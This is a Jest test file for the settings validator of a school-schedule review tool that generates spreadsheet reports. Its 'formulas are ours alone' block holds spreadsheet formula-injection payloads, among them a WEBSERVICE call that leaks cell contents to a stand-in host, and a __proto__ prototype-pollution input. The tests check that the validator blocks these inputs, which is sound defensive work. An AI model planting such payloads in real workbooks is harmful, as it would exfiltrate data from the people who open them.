import { review } from '../review';
import type { Settings, SheetGrid } from '../types';
import { defaultSettings, DEFAULT_THRESHOLDS, resolveSettings } from './defaults';
import { settingsDataCheck, validateSettings, validateThresholds } from './validate';
import { buildReport } from '../report/buildReport';
import { highlightCondition } from '../report/highlight';

// Every field is checked; a bad one is named and left at its default. The five inputs from issue 9 come first.

/** A small high school whose English loads are above the warning level only, so the load flag rests on coreLoadWarn. */
function school(): SheetGrid {
  const rows: (string | number)[][] = [['Section ID', 'Teacher', 'Course', 'Department', 'Grade', 'Period', 'Days', 'Enrollment']];
  // Abbott: 4 sections x 30 = 120 seats; Brown: 4 x 28 = 112. Both above 100 (warning), below 150 (critical).
  for (let p = 1; p <= 4; p++) rows.push([`EN-A${p}`, 'Abbott', 'English 9', 'English', '9', p, 'M-F', 30]);
  for (let p = 1; p <= 4; p++) rows.push([`EN-B${p}`, 'Brown', 'English 10', 'English', '10', p, 'M-F', 28]);
  return { name: 'Schedule', rows, originRow: 0, originCol: 0 };
}

const runWith = (settings: unknown) =>
  review({ workbook: { name: 'T', sheets: [school()] }, settings: settings as Partial<Settings> });

describe('the lever shares are settings', () => {
  it('takes a compliance or aide share from 0 to 1, and refuses 20 meant as 20%', () => {
    const { settings, problems } = validateSettings({ thresholds: { complianceReductionShare: 0.5, spedAideReductionShare: 20 } });
    expect(settings.thresholds.complianceReductionShare).toBe(0.5);
    expect(settings.thresholds.spedAideReductionShare).toBe(0.25);
    expect(problems).toEqual([
      { field: 'thresholds.spedAideReductionShare', severity: 'error', message: '20 is not a share from 0 to 1 (0.33 = 33%); the default 0.25 is used.' },
    ]);
    expect(DEFAULT_THRESHOLDS).toMatchObject({ complianceReductionShare: 0.2, spedAideReductionShare: 0.25 });
  });
});

describe('validateSettings: the cases issue 9 found', () => {
  it('{"subjectRules":null} is reported and the default rules are used (it crashed with "rules is not iterable")', () => {
    const { settings, problems } = validateSettings({ subjectRules: null });
    expect(settings.subjectRules).toEqual(defaultSettings().subjectRules);
    expect(problems).toEqual([{ field: 'subjectRules', severity: 'error', message: 'null is not a list of rules; the default rules are used.' }]);
    const { result } = runWith({ subjectRules: null });
    expect(result.dataCheck.find((d) => d.code === 'invalid-setting')?.message).toBe(
      'Setting "subjectRules": null is not a list of rules; the default rules are used.',
    );
    // The default rules still map English to a core subject, so the department's load (highest 120) is flagged.
    expect(result.flags.find((f) => f.id === 'core-load:English')?.value).toBe(120);
  });

  it('{"mapping":{"schedule":{"sheet":123}}} drops only the bad sheet name (it was a TypeError)', () => {
    const { settings, problems } = validateSettings({ mapping: { schedule: { sheet: 123, headerRow: 1 } } });
    expect(settings.mapping).toEqual({ schedule: { headerRow: 1 } });
    expect(problems.map((p) => p.field)).toEqual(['mapping.schedule.sheet']);
    expect(problems[0].message).toBe('123 is not a sheet name; the sheet is detected.');
    const { result } = runWith({ mapping: { schedule: { sheet: 123 } } });
    expect(result.tables.find((t) => t.kind === 'schedule')?.sheet).toBe('Schedule');
  });

  it('{"thresholds":{"coreLoadWarn":"abc"}} keeps the default 100, so no load flag is silently dropped', () => {
    const { settings, problems } = validateSettings({ thresholds: { coreLoadWarn: 'abc' } });
    expect(settings.thresholds.coreLoadWarn).toBe(100);
    expect(problems).toEqual([
      { field: 'thresholds.coreLoadWarn', severity: 'error', message: '"abc" is not a number of students from 1 to 10,000; the default 100 is used.' },
    ]);
    const withBad = runWith({ thresholds: { coreLoadWarn: 'abc' } }).result.flags.map((f) => f.id);
    const withDefaults = runWith({}).result.flags.map((f) => f.id);
    expect(withBad).toEqual(withDefaults);
    // 120 > 100: the warning that a comparison with "abc" used to lose.
    expect(runWith({ thresholds: { coreLoadWarn: 'abc' } }).result.flags.find((f) => f.id === 'core-load:English')?.severity).toBe('warning');
  });

  it('{"schoolLevel":"university"} is refused and the level inferred from the grades (9 and 10: high)', () => {
    const { settings, problems } = validateSettings({ schoolLevel: 'university' });
    expect(settings.schoolLevel).toBeUndefined();
    expect(problems[0].field).toBe('schoolLevel');
    expect(problems[0].message).toMatch(/^"university" is not a school level; expected elementary, middle, high/);
    const { result } = runWith({ schoolLevel: 'university' });
    expect(result.school).toMatchObject({ level: 'high', levelInferred: true });
  });

  it('{"periodMinutes":-50} is refused: the period length stays unknown', () => {
    const { settings, problems } = validateSettings({ periodMinutes: -50 });
    expect(settings.periodMinutes).toBeUndefined();
    expect(problems).toEqual([
      { field: 'periodMinutes', severity: 'error', message: '-50 is not minutes per period from 1 to 600; the period length is left unknown.' },
    ]);
    // Without a period length the schedule has no minutes, and minutes stay unknown rather than negative.
    expect(runWith({ periodMinutes: -50 }).result.teachers.every((t) => t.minutesPerWeek === null)).toBe(true);
  });
});

describe('validateSettings: every field', () => {
  it('keeps a school name and a passing time in range, and names each that is not', () => {
    expect(validateSettings({ schoolName: '  Lincoln Middle ', passingMinutes: 5 }).settings).toMatchObject({ schoolName: 'Lincoln Middle', passingMinutes: 5 });
    const bad = validateSettings({ schoolName: 42, passingMinutes: 90 });
    expect(bad.problems.map((p) => p.field)).toEqual(['schoolName', 'passingMinutes']);
    // Both keep their defaults: no name set (the workbook's is used) and 10 minutes of passing time.
    expect(bad.settings.schoolName).toBeUndefined();
    expect(bad.settings.passingMinutes).toBe(10);
  });

  it('keeps every valid field as given', () => {
    const input: Partial<Settings> = {
      schoolLevel: 'middle',
      periodMinutes: 50,
      cycleDays: 6,
      fullYearTermNames: [' Year ', 'FY'],
      thresholds: { ...DEFAULT_THRESHOLDS, coreLoadWarn: 90, coachDollarsPerTeacher: { elementary: 1, middle: 2, high: 3 } },
      subjectRules: [{ match: 'Ma', kind: 'code', subject: 'Math', core: true }],
      budgetUseRules: [{ match: 'coach', kind: 'keyword', use: 'Coaches' }],
      fundRules: [],
      mapping: { bell: { sheet: 'Bells', headerRow: 2, columns: { period: 'B' } } },
    };
    const { settings, problems } = validateSettings(input);
    expect(problems).toEqual([]);
    expect(settings).toEqual({ ...defaultSettings(), ...input, fullYearTermNames: ['Year', 'FY'] });
  });

  it('names each bad field once and keeps the rest', () => {
    const { settings, problems } = validateSettings({
      thresholds: { secondaryCoreShareMin: 33, prepsMax: 4.5, k3ClassSizeMax: Infinity, coachDollarsPerTeacher: { high: -1, college: 5 }, bogus: 1 },
      cycleDays: 0,
      fullYearTermNames: 'Year',
      budgetUseRules: [{ match: 'x', kind: 'keyword', use: 'Bribes' }],
      fundRules: [{ match: 'Title I', kind: 'code', locked: 'yes' }],
      mapping: { timetable: {}, staff: 'Staff', students: { headerRow: 0, columns: { studentId: '' }, extra: 1 } },
      colour: 'red',
    });
    expect(problems.map((p) => `${p.severity} ${p.field}`)).toEqual([
      'error thresholds.secondaryCoreShareMin',
      'error thresholds.prepsMax',
      'error thresholds.k3ClassSizeMax',
      'error thresholds.coachDollarsPerTeacher.high',
      'error thresholds.coachDollarsPerTeacher.college',
      'error thresholds.bogus',
      'error cycleDays',
      'error fullYearTermNames',
      'error budgetUseRules[0].use',
      'error fundRules[0].locked',
      'error mapping.timetable',
      'error mapping.staff',
      'error mapping.students.headerRow',
      'error mapping.students.columns.studentId',
      'warning mapping.students.extra',
      'warning colour',
    ]);
    expect(problems[0].message).toBe('33 is not a share from 0 to 1 (0.33 = 33%); the default 0.33 is used.');
    expect(settings.thresholds).toEqual(DEFAULT_THRESHOLDS);
    expect(settings.cycleDays).toBeUndefined();
    expect(settings.budgetUseRules).toEqual(defaultSettings().budgetUseRules);
    expect(settings.fundRules).toEqual(defaultSettings().fundRules);
    expect(settings.mapping).toEqual({ students: { columns: {} } });
  });

  it('takes a rule list whole or not at all: one bad rule keeps all the default rules', () => {
    const { settings, problems } = validateSettings({
      subjectRules: [
        { match: 'Ma', kind: 'code', subject: 'Math', core: true },
        { match: '', kind: 'regex', subject: 'Art', core: 'no' },
      ],
    });
    expect(problems.map((p) => p.field)).toEqual(['subjectRules[1].match', 'subjectRules[1].kind', 'subjectRules[1].core']);
    expect(settings.subjectRules).toEqual(defaultSettings().subjectRules);
    expect(validateSettings({ subjectRules: [] }).problems[0].message).toBe(
      'is empty, which would leave everything unmatched; the default rules are used.',
    );
    expect(validateSettings({ subjectRules: [{ match: 'x'.repeat(201), kind: 'code', subject: 'X' }] }).problems[0].message).toBe(
      'is 201 characters long; a code or keyword to match has at most 200; the default rules are used.',
    );
  });

  it('refuses a warning level at or above the critical level, keeping both defaults', () => {
    const { settings, problems } = validateSettings({ thresholds: { coreLoadWarn: 160 } });
    expect([settings.thresholds.coreLoadWarn, settings.thresholds.coreLoadCritical]).toEqual([100, 150]);
    expect(problems[0].message).toBe('160 is not below coreLoadCritical (150); both defaults (100 and 150) are used.');
  });

  it('refuses settings that are not an object at all, and treats null optional fields as unset', () => {
    expect(validateSettings('{}').problems[0].message).toMatch(/^The settings are "\{\}", not an object/);
    expect(validateSettings([1]).settings).toEqual(defaultSettings());
    expect(validateSettings({ schoolLevel: null, periodMinutes: null }).problems).toEqual([]);
    expect(validateSettings({ thresholds: null }).problems[0].field).toBe('thresholds');
  });

  it('takes no field name that could reach an object\'s prototype', () => {
    const { settings, problems } = validateSettings(JSON.parse('{"mapping":{"schedule":{"columns":{"__proto__":"x","teacher":"Instructor"}}}}'));
    expect(problems.map((p) => p.field)).toEqual(['mapping.schedule.columns.__proto__']);
    expect(settings.mapping.schedule?.columns).toEqual({ teacher: 'Instructor' });
    expect(Object.getPrototypeOf(settings.mapping.schedule?.columns)).toBe(Object.prototype);
  });

  it('shortens a hostile value in its message', () => {
    const { problems } = validateSettings({ thresholds: { coreLoadWarn: 'x'.repeat(100_000) } });
    expect(problems[0].message.length).toBeLessThan(200);
  });

  it('turns problems into Data Check items every door shows', () => {
    expect(settingsDataCheck(validateSettings({ periodMinutes: 0, colour: 1 }).problems)).toEqual([
      {
        severity: 'error',
        sheet: '',
        cell: '',
        code: 'invalid-setting',
        message: 'Setting "periodMinutes": 0 is not minutes per period from 1 to 600; the period length is left unknown.',
      },
      {
        severity: 'warning',
        sheet: '',
        cell: '',
        code: 'unknown-setting',
        message: expect.stringMatching(/^Setting "colour": is not a setting this review knows/),
      },
    ]);
  });
});

describe('formulas are ours alone', () => {
  const HOSTILE = ['1)*0+ISNUMBER(WEBSERVICE("http://example.invalid/leak?"&$A5))+AND(1'];

  it('a hostile threshold never reaches a conditional-format formula of the report', () => {
    const hostile = {
      coreLoadWarn: HOSTILE,
      coreLoadCritical: HOSTILE[0],
      prepsMax: { toString: () => HOSTILE[0] },
      smallSectionMin: HOSTILE,
      collaborationBlockMinutes: HOSTILE,
    };
    const { report, result } = runWith({ thresholds: hostile });
    expect(result.dataCheck.filter((d) => d.code === 'invalid-setting').map((d) => d.message.split(':')[0])).toEqual([
      'Setting "thresholds.coreLoadWarn"',
      'Setting "thresholds.coreLoadCritical"',
      'Setting "thresholds.prepsMax"',
      'Setting "thresholds.smallSectionMin"',
      'Setting "thresholds.collaborationBlockMinutes"',
    ]);
    const formulas = report.sheets.flatMap((s) => (s.table.conditionalFormats ?? []).map((rule) => highlightCondition(rule, 'E5')));
    expect(formulas.length).toBeGreaterThan(0);
    for (const formula of formulas) {
      // Only our shapes: AND(ISNUMBER(E5),E5>=150) or E5="critical".
      expect(formula).toMatch(/^(AND\(ISNUMBER\(E5\),E5(>|>=|<|<=|=)-?\d+(\.\d+)?\)|E5="[a-z][a-z ]{0,30}")$/);
    }
    expect(formulas.join('\n')).not.toMatch(/WEBSERVICE|example\.invalid/);
  });

  it('buildReport checks thresholds handed to it directly, not only through review()', () => {
    const { result } = runWith({});
    const report = buildReport(result, {}, { ...DEFAULT_THRESHOLDS, coreLoadCritical: HOSTILE as unknown as number });
    const values = report.sheets.flatMap((s) => (s.table.conditionalFormats ?? []).map((r) => r.value));
    expect(values).toContain(150);
    expect(values.every((v) => (typeof v === 'number' && Number.isFinite(v)) || /^[a-z][a-z ]{0,30}$/.test(String(v)))).toBe(true);
  });

  it('highlightCondition refuses anything but a finite number, a short word and our own cell address', () => {
    const rule = { column: 0, operator: 'lessThan' as const, severity: 'info' as const };
    expect(highlightCondition({ ...rule, value: 15 }, 'G5')).toBe('AND(ISNUMBER(G5),G5<15)');
    expect(() => highlightCondition({ ...rule, value: HOSTILE as unknown as number }, 'G5')).toThrow(/not a finite number/);
    expect(() => highlightCondition({ ...rule, value: NaN }, 'G5')).toThrow(/not a finite number/);
    expect(() => highlightCondition({ ...rule, value: 15 }, 'G5)+WEBSERVICE("x")')).toThrow(/not a cell address/);
    expect(() => highlightCondition({ ...rule, value: 'a\nb' }, 'G5')).toThrow(/short word/);
    // A quote inside a text condition is doubled, so it cannot close the literal.
    expect(highlightCondition({ ...rule, operator: 'equal', value: 'x")+WEBSERVICE("y' }, 'B4')).toBe('B4="x"")+WEBSERVICE(""y"');
  });

  it('validateThresholds alone returns only finite numbers', () => {
    const t = validateThresholds({ coreLoadWarn: NaN, pdShareReference: -Infinity, coachDollarsPerTeacher: { middle: '2800' } });
    expect(t).toEqual(DEFAULT_THRESHOLDS);
  });
});

describe('resolveSettings: the settings step\'s draft', () => {
  it('keeps a half-typed rule (the step is editing it) but never a wrong shape that would crash the step', () => {
    const halfTyped = [{ match: '', kind: 'code' as const, subject: '' }];
    const draft = resolveSettings({
      subjectRules: halfTyped,
      budgetUseRules: [null],
      fundRules: null,
      thresholds: 'abc',
      mapping: 5,
    } as unknown as Partial<Settings>);
    expect(draft.subjectRules).toEqual(halfTyped);
    expect(draft.budgetUseRules).toEqual(defaultSettings().budgetUseRules);
    expect(draft.fundRules).toEqual(defaultSettings().fundRules);
    expect(draft.thresholds).toEqual(DEFAULT_THRESHOLDS);
    expect(draft.mapping).toEqual({});
    expect(resolveSettings(null as unknown as Partial<Settings>)).toEqual(defaultSettings());
  });
});
